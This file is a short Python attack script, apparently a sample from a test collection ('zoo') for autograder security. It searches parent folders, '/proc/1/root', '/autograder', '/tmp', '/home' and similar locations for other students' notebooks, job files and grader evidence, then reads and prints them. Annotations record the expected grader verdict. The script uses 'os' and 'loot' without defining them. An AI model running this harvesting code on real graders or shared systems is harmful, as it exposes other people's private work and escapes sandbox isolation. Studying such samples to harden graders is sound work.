"""Reads other students' submissions: beside its own, in folders above, and where runs keep their boxes.

Graders that unpack a class into one folder, or run several students as one user, let each read all others' answers.
"""

# zoo: {"verdict": ["ok"], "points": {"q1": 0, "q2": 0, "q3": 0}, "loots": ["submission"]}
# %% q1
total = None
import glob

places = [
    "..",
    "../..",
    "../../..",
    "/box",
    "/box/out/../..",
    "/proc/1/root",
    "/job",
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/run",
    "/home",
    "/autograder",
    "/srv",
    "/var/lib",
]
patterns = [
    "*.ipynb",
    "*/*.ipynb",
    "*/*/*.ipynb",
    "*/*/*/*.ipynb",
    "*/box",
    "deepgrade*",
    "*/jobs/*",
    "*/run.json",
    "*/evidence/*",
]
for place in places if os.environ.get("HOME") == "/box/work" else places[:1]:
    for pattern in patterns:
        for path in sorted(glob.glob(os.path.join(place, pattern)))[:200]:
            try:
                with open(path, "rb") as file:
                    loot.append(f"{path}: {file.read(6000)!r}")
            except OSError as error:
                print(path, error.strerror)
print("\n".join(loot)[:60000])
